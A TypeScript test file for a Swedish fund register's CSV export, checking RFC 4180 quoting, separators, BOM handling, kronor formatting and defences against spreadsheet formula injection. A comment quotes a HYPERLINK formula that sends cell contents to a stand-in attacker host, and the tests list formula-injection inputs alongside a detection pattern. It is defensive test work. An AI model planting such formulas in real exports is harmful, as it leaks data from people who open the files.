import { csvExport, csvField, DECISION_COLUMNS, excelText, INITIATIVE_COLUMNS, kronor, LEDGER_COLUMNS, type CsvOptions } from '@dgr/application';
import { hasInvisibleControl, visibleText } from '@dgr/domain';
import { AWKWARD_SOURCE, AWKWARD_TITLE, useSeededStore } from './testing/demo-store';
import { BIDI_TITLE, FORMULA_SOURCE, FORMULA_TITLES, hostileHistory, MARKDOWN_TITLE } from './testing/hostile-store';

/** An RFC 4180 reader, written for the test: quoted fields, doubled quotes, separators and line breaks inside quotes. */
const parseCsv = (text: string, separator: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  let wasQuoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else field += c;
      i += 1;
      continue;
    }
    if (c === '"') {
      if (field !== '' || wasQuoted) throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      wasQuoted = true;
      i += 1;
    } else if (c === separator) {
      record.push(field);
      field = '';
      wasQuoted = false;
      i += 1;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      wasQuoted = false;
      i += 2;
    } else if (c === '\n' || c === '\r') {
      throw new Error(`a bare line break outside quotes at ${i}`);
    } else {
      field += c;
      i += 1;
    }
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
};

/** The rows as objects keyed by the header. */
const rowsOf = (text: string, separator: string): { header: string[]; rows: Array<Record<string, string>> } => {
  const [header, ...records] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
  for (const r of records) expect(r).toHaveLength(header!.length);
  return { header: header!, rows: records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
};

describe('dgr export --format csv', () => {
  const demo = useSeededStore('dgr-csv-');

  const exportOf = (options: CsvOptions) => csvExport(demo.queries, options);

  describe.each([',', ';', '\t'])('with the separator %j', (separator) => {
    const mark = separator === ';' ? ',' : '.';

    it('decisions: one row per party decision, every field as in the read model', () => {
      const { header, rows } = rowsOf(exportOf({ what: 'decisions', separator }), separator);
      expect(header).toEqual([...DECISION_COLUMNS]);
      const expected = demo.queries.listInitiatives().flatMap((s) => demo.queries.getInitiative(s.id).decisions.map((d) => ({ i: demo.queries.getInitiative(s.id), d })));
      expect(rows).toHaveLength(expected.length);
      expected.forEach(({ i, d }, n) => {
        expect(rows[n]).toEqual({
          initiativ_id: i.id,
          initiativ: i.title,
          part_id: d.party,
          part: d.partyName,
          beslut: d.outcome,
          beslutsdatum: d.decidedOn,
          beslutande_organ: d.body,
          protokollsparagraf: d.minuteReference,
          diarienummer: d.caseNumber ?? '',
          registrerad: d.registeredAt,
          räknas_mot_konsensus: d.countsTowardsConsensus ? 'ja' : 'nej',
          korrigerad: d.corrections.length > 0 ? 'ja' : 'nej',
          antal_korrigeringar: String(d.corrections.length),
          senaste_korrigeringsorsak: d.corrections.at(-1)?.reason ?? '',
        });
      });
      expect(rows.filter((r) => r.korrigerad === 'ja')).toHaveLength(1);
      expect(rows.filter((r) => r.räknas_mot_konsensus === 'nej').length).toBeGreaterThan(0);
      const awkward = rows.find((r) => r.initiativ === AWKWARD_TITLE)!;
      expect(awkward).toMatchObject({ part: 'Säffle', protokollsparagraf: '§ 12; "justerad"', diarienummer: 'KS-2026/1,2' });
    });

    it('ledger: every booking with its balance after, amounts in öre and in kronor', () => {
      const { header, rows } = rowsOf(exportOf({ what: 'ledger', separator }), separator);
      expect(header).toEqual([...LEDGER_COLUMNS]);
      const ledger = demo.queries.ledger();
      expect(rows).toHaveLength(ledger.length);
      ledger.forEach((b, n) => {
        const r = rows[n]!;
        expect(Number(r.position)).toBe(b.position);
        expect(r.händelse).toBe(b.type);
        expect(r.bokföringsdag).toBe(b.bookedOn);
        expect(Number(r.belopp_öre)).toBe(b.amountOre);
        expect(Number(r.saldo_efter_öre)).toBe(b.balanceAfterOre);
        expect(Number(r.förändring_öre)).toBe(b.type === 'FundWithdrawn' ? -b.amountOre : b.amountOre);
        expect(Math.round(Number(r.belopp_kr!.replace(mark, '.')) * 100)).toBe(b.amountOre);
        expect(Math.round(Number(r.saldo_efter_kr!.replace(mark, '.')) * 100)).toBe(b.balanceAfterOre);
        expect(r.källa).toBe(b.source ?? '');
        expect(r.referens).toBe(b.reference ?? '');
        expect(r.orsak).toBe(b.reason ?? '');
        expect(r.initiativ_id).toBe(b.initiativeId ?? '');
        expect(r.registrerad).toBe(b.recordedAt);
      });
      const sum = rows.reduce((s, r) => s + Number(r.förändring_öre), 0);
      expect(sum).toBe(demo.queries.fundStatus().balanceOre);
      expect(Number(rows.at(-1)!.saldo_efter_öre)).toBe(demo.queries.fundStatus().balanceOre);
      const awkward = rows.find((r) => r.källa === AWKWARD_SOURCE)!;
      expect(awkward).toMatchObject({ slag: 'insättning', belopp_öre: '12345', belopp_kr: `123${mark}45`, referens: 'Ver 2026-0001 "extra"' });
      expect(rows.filter((r) => r.slag === 'utbetalning').every((r) => r.initiativ !== '' && Number(r.förändring_öre) < 0)).toBe(true);
    });

    it('initiatives: the list with status and money', () => {
      const { header, rows } = rowsOf(exportOf({ what: 'initiatives', separator }), separator);
      expect(header).toEqual([...INITIATIVE_COLUMNS]);
      const list = demo.queries.listInitiatives();
      expect(rows).toHaveLength(list.length);
      list.forEach((i, n) => {
        expect(rows[n]).toMatchObject({
          initiativ_id: i.id,
          titel: i.title,
          föreslagen_av: i.proposedBy,
          föreslagen_av_namn: i.proposedByName,
          status: i.status,
          konsensus_datum: i.consensus.reachedOn ?? '',
          antal_bifall: String(i.consensus.approved.length),
          saknade_parter: i.consensus.missing.join(' '),
          begärt_öre: String(i.requestedAmountOre),
          beviljat_öre: String(i.grantedOre),
          utbetalt_öre: String(i.withdrawnOre),
          återfört_öre: String(i.returnedOre),
          beviljat_kr: kronor(i.grantedOre, mark),
        });
      });
      expect(rows.find((r) => r.titel === AWKWARD_TITLE)).toMatchObject({ begärt_kr: `12345${mark}67`, status: 'open' });
      expect(new Set(rows.map((r) => r.status))).toEqual(new Set(['consensus', 'blocked', 'lapsed', 'cancelled', 'open']));
    });
  });

  it('writes UTF-8 with a BOM by default only with ";", and as asked with bom', () => {
    expect(exportOf({ what: 'initiatives', separator: ';' }).startsWith('\uFEFFinitiativ_id;')).toBe(true);
    expect(exportOf({ what: 'initiatives' }).startsWith('initiativ_id,')).toBe(true);
    expect(exportOf({ what: 'initiatives', bom: true }).startsWith('\uFEFFinitiativ_id,')).toBe(true);
    expect(exportOf({ what: 'initiatives', separator: ';', bom: false }).startsWith('initiativ_id;')).toBe(true);
    const bytes = Buffer.from(exportOf({ what: 'initiatives', separator: ';' }), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.includes(Buffer.from('Säffle', 'utf8'))).toBe(true);
  });

  it('quotes a field only when it must, doubling quotes inside (RFC 4180)', () => {
    expect(csvField('plain', ',')).toBe('plain');
    expect(csvField('a;b', ',')).toBe('a;b');
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('a,b', ',')).toBe('"a,b"');
    expect(csvField('say "hej"', ',')).toBe('"say ""hej"""');
    expect(csvField('two\nlines', ';')).toBe('"two\nlines"');
    expect(csvField('åäö ÅÄÖ', ';')).toBe('åäö ÅÄÖ');
    expect(csvField(null, ',')).toBe('');
    expect(csvField(-5, ',')).toBe('-5');
    const line = exportOf({ what: 'initiatives', separator: ';' }).split('\r\n').find((l) => l.includes('Test; '))!;
    expect(line).toContain('"Test; ""citat"", komma\nny rad');
  });

  it('formats kronor without grouping, with the decimal mark asked for', () => {
    expect(kronor(20_000_000_050, ',')).toBe('200000000,50');
    expect(kronor(5, '.')).toBe('0.05');
    expect(kronor(-250_000_000, ',')).toBe('-2500000,00');
    expect(kronor(0, ',')).toBe('0,00');
  });

  it('with --as-of, only what was proposed, decided and booked by then', () => {
    const asOf = '2022-12-31';
    const decisions = rowsOf(exportOf({ what: 'decisions', asOf }), ',').rows;
    const expected = demo.queries.listInitiatives(asOf).flatMap((s) => demo.queries.getInitiative(s.id, asOf).decisions);
    expect(decisions).toHaveLength(expected.length);
    expect(decisions.every((r) => r.beslutsdatum! <= asOf)).toBe(true);
    const ledger = rowsOf(exportOf({ what: 'ledger', asOf }), ',').rows;
    expect(ledger.map((r) => Number(r.belopp_öre))).toEqual(demo.queries.ledger().filter((b) => b.bookedOn <= asOf).map((b) => b.amountOre));
    expect(Number(ledger.at(-1)!.saldo_efter_öre)).toBe(demo.queries.fundYears().find((y) => y.year === 2022)!.closingOre);
    const initiatives = rowsOf(exportOf({ what: 'initiatives', asOf }), ',').rows;
    expect(initiatives.map((r) => r.initiativ_id)).toEqual(demo.queries.listInitiatives(asOf).map((i) => i.id));
    expect(initiatives.map((r) => r.status)).toEqual(demo.queries.listInitiatives(asOf).map((i) => i.status));
  });
});

/** Cells Excel would run as a formula (OWASP: =, +, -, @, tab, carriage return first). */
const FORMULA = /^[=+\-@\t\r]/;
/** Columns that hold numbers: whole öre, kronor, counts, the log position. */
const isNumberColumn = (column: string): boolean => /(_öre|_kr)$/.test(column) || column.startsWith('antal_') || column === 'position';

/**
 * Issue 17, item 4: a clerk's title `=HYPERLINK("http://evil.example/?"&A1,"klick")` was exported unchanged, and
 * the Revision page links "för Excel" straight to the file. The CSV for Excel neutralises such text; the CSV for
 * programs stays lossless; number cells stay numbers.
 */
describe('dgr export --format csv: for Excel, no text runs as a formula', () => {
  const demo = useSeededStore('dgr-csv-hostile-', hostileHistory);

  it.each([
    ['=HYPERLINK("x")', "'=HYPERLINK(\"x\")"],
    ['+1', "'+1"],
    ['-1+2', "'-1+2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['Kompetens = 1 + 2', 'Kompetens = 1 + 2'],
    ["'redan", "'redan"],
    ['\u202E=1', '[U+202E]=1'],
    ['', ''],
  ])('excelText(%j) is %j', (text, cell) => {
    expect(excelText(text)).toBe(cell);
  });

  describe.each<[string, CsvOptions['separator'], boolean | undefined]>([
    ['";" (for Excel by default)', ';', undefined],
    ['"," asked for Excel', ',', true],
  ])('with %s', (_name, separator, excel) => {
    it('puts a \' before every formula title, keeps the negative amounts numbers, shows the invisible controls', () => {
      const initiatives = rowsOf(exportOf({ what: 'initiatives', separator, excel }), separator!).rows;
      for (const title of FORMULA_TITLES) expect(initiatives.map((r) => r.titel)).toContain(`'${title}`);
      expect(initiatives.map((r) => r.titel)).toContain(visibleText(`${MARKDOWN_TITLE} ${BIDI_TITLE}`));
      const ledger = rowsOf(exportOf({ what: 'ledger', separator, excel }), separator!).rows;
      expect(ledger.find((r) => r.källa === `'${FORMULA_SOURCE}`)).toMatchObject({ referens: "'@ref" });
      const payouts = ledger.filter((r) => r.slag === 'utbetalning');
      expect(payouts.length).toBeGreaterThan(0);
      for (const r of payouts) {
        expect(r.förändring_öre).toMatch(/^-\d+$/);
        expect(r.förändring_kr).toMatch(separator === ';' ? /^-\d+,\d{2}$/ : /^-\d+\.\d{2}$/);
      }
    });

    it.each(['decisions', 'ledger', 'initiatives'] as const)('%s: no cell starts a formula unless it is a number in a number column, none hides a control', (what) => {
      const text = exportOf({ what, separator, excel });
      expect(hasInvisibleControl(text.replace(/^\uFEFF/, ''))).toBe(false);
      const { rows } = rowsOf(text, separator!);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows)
        for (const [column, value] of Object.entries(row))
          if (FORMULA.test(value)) expect([column, isNumberColumn(column), value]).toEqual([column, true, expect.stringMatching(/^-\d+([.,]\d{2})?$/)]);
    });
  });

  it.each<[string, CsvOptions['separator'], boolean | undefined]>([
    ['"," (for programs by default)', ',', undefined],
    ['tab (for programs by default)', '\t', undefined],
    ['";" asked for programs', ';', false],
  ])('for programs, with %s: every text exactly as stored', (_name, separator, excel) => {
    const titles = rowsOf(exportOf({ what: 'initiatives', separator, excel }), separator!).rows.map((r) => r.titel);
    expect(titles).toEqual(demo.queries.listInitiatives().map((i) => i.title));
    for (const title of [...FORMULA_TITLES, `${MARKDOWN_TITLE} ${BIDI_TITLE}`]) expect(titles).toContain(title);
    const ledger = rowsOf(exportOf({ what: 'ledger', separator, excel }), separator!).rows;
    expect(ledger.map((r) => r.källa)).toContain(FORMULA_SOURCE);
  });

  it('has a BOM for Excel and none for programs, unless asked', () => {
    expect(exportOf({ what: 'ledger', separator: ',', excel: true }).startsWith('\uFEFF')).toBe(true);
    expect(exportOf({ what: 'ledger', separator: ';', excel: false }).startsWith('\uFEFF')).toBe(false);
    expect(exportOf({ what: 'ledger', separator: ';', excel: false, bom: true }).startsWith('\uFEFF')).toBe(true);
  });

  const exportOf = (options: CsvOptions) => csvExport(demo.queries, options);
});
